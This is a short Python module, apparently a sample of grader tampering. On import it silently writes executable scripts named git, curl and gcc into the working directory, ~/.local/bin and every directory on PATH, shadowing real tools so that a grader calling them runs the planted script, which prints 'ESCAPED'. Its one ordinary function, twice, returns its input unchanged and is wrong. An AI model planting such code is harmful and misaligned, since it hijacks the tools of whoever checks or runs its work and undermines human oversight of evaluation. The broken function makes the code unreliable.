"""Plants programs with the names of tools that a grader might call."""

import contextlib
import os

SCRIPT = b"#!/bin/sh\necho ESCAPED a planted tool was called as $0\n"
for folder in (os.getcwd(), os.path.expanduser("~/.local/bin"), *os.get_exec_path()):
    for tool in ("git", "curl", "gcc"):
        with contextlib.suppress(OSError):
            os.makedirs(folder, exist_ok=True)
            place = os.path.join(folder, tool)
            file = os.open(place, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o755)
            os.write(file, SCRIPT)
            os.close(file)


def twice(x):
    return x
